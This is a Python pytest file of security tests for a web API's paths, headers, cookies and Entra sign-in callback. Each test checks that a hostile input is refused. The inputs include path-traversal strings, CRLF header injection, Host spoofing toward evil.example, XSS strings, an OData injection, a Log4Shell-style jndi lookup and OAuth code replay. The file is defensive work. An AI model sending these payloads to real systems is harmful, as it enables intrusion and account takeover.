"""What strangers try at the public door, beyond access tokens (test_callers), links that lead elsewhere
(test_graph, test_exchange), forged tracking links (test_pixel) and stolen sign-ins (test_connection)."""

from __future__ import annotations

import http.client
import uuid
from urllib.parse import parse_qs, quote, urlsplit

import pytest
import requests

from sandbox.stack.cookies import taken
from tests.support.amounts import exactly
from tests.support.api import ADA, MIA, SALES, Api, assert_problem


def raw(api: Api, method: str, target: str, headers: dict[str, str]) -> tuple[int, dict[str, str], str]:
    """The answer to a request that no well-behaved client would send."""
    connection = http.client.HTTPConnection(urlsplit(api.origin).netloc, timeout=10)
    connection.putrequest(method, target, skip_host="Host" in headers)
    for name, value in headers.items():
        connection.putheader(name, value)
    connection.endheaders()
    answer = connection.getresponse()
    text = answer.read().decode()
    connection.close()
    return answer.status, {name.lower(): value for name, value in answer.getheaders()}, text


# -- paths


def test_a_path_that_leads_up_is_the_page_about_the_api_and_nothing_else(unconnected: Api) -> None:
    status, answered, _ = raw(unconnected, "GET", "/api/expansions/..", {})
    assert (status, answered["content-type"].partition(";")[0]) == (200, "text/html")


@pytest.mark.parametrize(
    "identifier",
    [
        "..%2fmessages",
        "%2e%2e%2f%2e%2e%2fhealth",
        "..\\..\\health",
        "a'%20or%20RowKey%20ne%20'",
        "00000000-0000-0000-0000-000000000000%00",
        "00000000%0d%0aX-Injected:%20yes",
        "x" * 65,
        "\uff21" * 8,
        "1234567",
    ],
)
def test_a_path_that_is_no_id_reaches_nothing(unconnected: Api, identifier: str) -> None:
    headers = {"Authorization": f"Bearer {unconnected.sandbox.caller_token(ADA)}"}
    target = f"/api/expansions/{quote(identifier, safe='%/.')}"
    status, answered, text = raw(unconnected, "GET", target, headers)
    assert status in (400, 404), text
    assert "x-injected" not in answered
    assert '"state"' not in text


@pytest.mark.parametrize("path", ["/api/audit", "/api/audit.csv", "/api/connection", "/api/connection/start"])
@pytest.mark.parametrize("spelling", ["{}", "{}/", "//{}", "{}?x=/api/health", "{}%2f..%2fhealth"])
def test_no_spelling_of_an_admins_route_lets_anybody_else_in(
    unconnected: Api, path: str, spelling: str
) -> None:
    for person in (None, MIA):
        headers = {"Authorization": f"Bearer {unconnected.sandbox.caller_token(person)}"} if person else {}
        status, _, text = raw(unconnected, "GET", spelling.format(path), headers)
        assert status in (400, 401, 403, 404), text


def test_a_parameter_that_is_given_twice_is_judged_as_one_word(unconnected: Api) -> None:
    for query in ("limit=1&limit=2", "limit=1&limit=1"):
        answer = unconnected.call("GET", f"/api/messages?{query}")
        assert_problem(answer, 400, "invalid_request", "limit")


@pytest.mark.parametrize("method", ["PUT", "PATCH", "OPTIONS", "TRACE", "HEAD"])
def test_methods_that_were_not_named_do_nothing(unconnected: Api, method: str) -> None:
    status, _, _ = raw(unconnected, method, "/api/connection", {})
    assert status == 405


# -- headers


@pytest.mark.parametrize(
    "headers",
    [
        {"Host": "evil.example"},
        {"X-Forwarded-Host": "evil.example"},
        {"X-Original-URL": "https://evil.example/"},
        {"Forwarded": "host=evil.example"},
    ],
    ids=lambda headers: next(iter(headers)),
)
def test_no_header_moves_the_place_where_a_sign_in_ends(unconnected: Api, headers: dict[str, str]) -> None:
    caller = {"Authorization": f"Bearer {unconnected.sandbox.caller_token(ADA)}"}
    status, answered, text = raw(unconnected, "GET", "/api/connection/start", caller | headers)
    assert status == 200
    assert "evil.example" not in text + str(answered)


@pytest.mark.parametrize(
    "cookie",
    [
        "",
        "rollcall-sign-in",
        "rollcall-sign-in=",
        'rollcall-sign-in="',
        "rollcall-sign-in=x; rollcall-sign-in=y",
        "a" * 8000,
        "rollcall-sign-in=%00",
        "=;=;=",
    ],
    ids=lambda cookie: cookie[:30],
)
def test_a_cookie_of_ones_own_making_ends_nobodys_sign_in(unconnected: Api, cookie: str) -> None:
    start = unconnected.as_person(ADA).call("GET", "/api/connection/start")
    callback = urlsplit(unconnected.sandbox.sign_in_service_account(start.json()["authorize_url"]))
    status, _, text = raw(unconnected, "GET", f"{callback.path}?{callback.query}", {"Cookie": cookie})
    assert (status, "another browser" in text) == (400, True)


def test_a_cookie_of_another_sign_in_is_no_good_for_this_one(unconnected: Api) -> None:
    """An admin's browser holds the cookie of the last sign-in that was begun there, and only that."""
    admin = unconnected.as_person(ADA)
    first, second = (admin.call("GET", "/api/connection/start") for _ in range(2))
    callback = unconnected.sandbox.sign_in_service_account(first.json()["authorize_url"])
    answer = requests.get(callback, cookies=second.cookies, timeout=10)
    assert answer.status_code == 400


# -- what comes back from Entra


def test_a_code_out_of_a_url_is_worth_nothing(unconnected: Api) -> None:
    """It is in the query, where it can be seen: whoever has all of the URL, even with a sign-in of their own
    begun, and even when the admin's never ended, connects nobody, neither here nor at Entra."""
    admin = unconnected.as_person(ADA)
    start, own = (admin.call("GET", "/api/connection/start") for _ in range(2))
    begun = parse_qs(urlsplit(start.json()["authorize_url"]).query)
    assert begun.get("response_mode", ["query"]) == ["query"]
    assert "samesite=lax" in start.headers["Set-Cookie"].lower()
    assert begun["code_challenge_method"] == ["S256"]
    callback = unconnected.sandbox.sign_in_service_account(start.json()["authorize_url"])
    [code] = parse_qs(urlsplit(callback).query)["code"]
    form = {
        "grant_type": "authorization_code",
        "code": code,
        "redirect_uri": begun["redirect_uri"][0],
        "client_id": begun["client_id"][0],
        "client_secret": unconnected.sandbox.world.apps[begun["client_id"][0]].secrets[0],
    }
    token_url = start.json()["authorize_url"].partition("?")[0].replace("/authorize", "/token")
    for verifier in ({}, {"code_verifier": "x" * 43}):
        redeemed = requests.post(token_url, data=form | verifier, timeout=10)
        assert redeemed.status_code == 400, redeemed.text
    for cookies in ({}, taken(own)):
        assert requests.get(callback, cookies=cookies, timeout=10).status_code == 400
    place, _, query = callback.partition("?")
    form_type = {"Content-Type": "application/x-www-form-urlencoded"}
    posted = requests.post(place, data=query, headers=form_type, timeout=10)
    assert posted.status_code == 405
    assert admin.call("GET", "/api/connection").json()["state"] == "disconnected"


@pytest.mark.parametrize(
    "changed",
    [
        {"state": "x" * 5000},
        {"state": "../../SignIns"},
        {"state": "a'b"},
        {"code": "<script>alert(1)</script>"},
        {"code": ""},
        {"code": "", "error": "access_denied", "error_description": "<img src=x onerror=alert(1)>"},
    ],
    ids=str,
)
def test_a_callback_that_was_tampered_with_connects_nobody_and_echoes_nothing(
    unconnected: Api, changed: dict[str, str]
) -> None:
    start = unconnected.as_person(ADA).call("GET", "/api/connection/start")
    callback = urlsplit(unconnected.sandbox.sign_in_service_account(start.json()["authorize_url"]))
    query = {name: value for name, [value] in parse_qs(callback.query).items()} | changed
    answer = requests.get(
        f"{unconnected.origin}{callback.path}", params=query, cookies=taken(start), timeout=10
    )
    assert answer.status_code in (400, 503)
    assert "<script>" not in answer.text
    assert "onerror" not in answer.text
    assert unconnected.as_person(ADA).call("GET", "/api/connection").json()["state"] == "disconnected"


# -- one's own data, and nobody else's


def test_an_id_that_somebody_else_uses_already_is_still_ones_own(api: Api) -> None:
    identifier = str(uuid.uuid4())
    mine = api.expand(SALES, id=identifier).json()
    theirs = api.as_person(ADA).expand("user1@company.com", id=identifier).json()
    assert (mine["count"], theirs["count"]) == (exactly(4), exactly(1))
    assert api.call("GET", f"/api/expansions/{identifier}").json() == mine


@pytest.mark.parametrize(
    "address",
    [
        "a@b.example\r\nBcc: c@d.example",
        "a@b.example' or mail eq 'c@d.example",
        "a@b.example<script>",
        "../../users/admin@company.com",
        "a@b.example\x00",
        "${jndi:ldap://evil.example}@b.example",
    ],
)
def test_an_address_that_is_more_than_an_address_is_refused(unconnected: Api, address: str) -> None:
    assert_problem(unconnected.expand(address), 400, "invalid_request", "$.addresses[0]")


# -- what ends in a line break


@pytest.mark.parametrize("ending", ["\n", "\r\n", "\u2028", "\x00"])
def test_an_id_that_ends_in_a_line_break_is_refused_by_name(api: Api, ending: str) -> None:
    answer = api.call("POST", "/api/expansions", json={"addresses": [SALES], "id": f"newline-01{ending}"})
    assert_problem(answer, 400, "invalid_request", "$.id")
    answer = api.call(
        "POST",
        "/api/messages",
        json={
            "expansion_id": f"newline-01{ending}",
            "mode": "counting",
            "sender": {"name": "", "address": SALES},
        },
    )
    assert_problem(answer, 400, "invalid_request", "$.expansion_id")
    odd = quote(ending)
    # What the host itself does not route, it answers 404.
    assert api.call("GET", f"/api/expansions/newline-01{odd}").status_code in (400, 404)
    admin = api.as_person(ADA)
    for name, word in (("kind", "expanded"), ("actor", "rollcall"), ("after", f"{0:017}-{0:016}-{0:08}")):
        assert_problem(admin.call("GET", f"/api/audit?{name}={word}{odd}"), 400, "invalid_request", name)
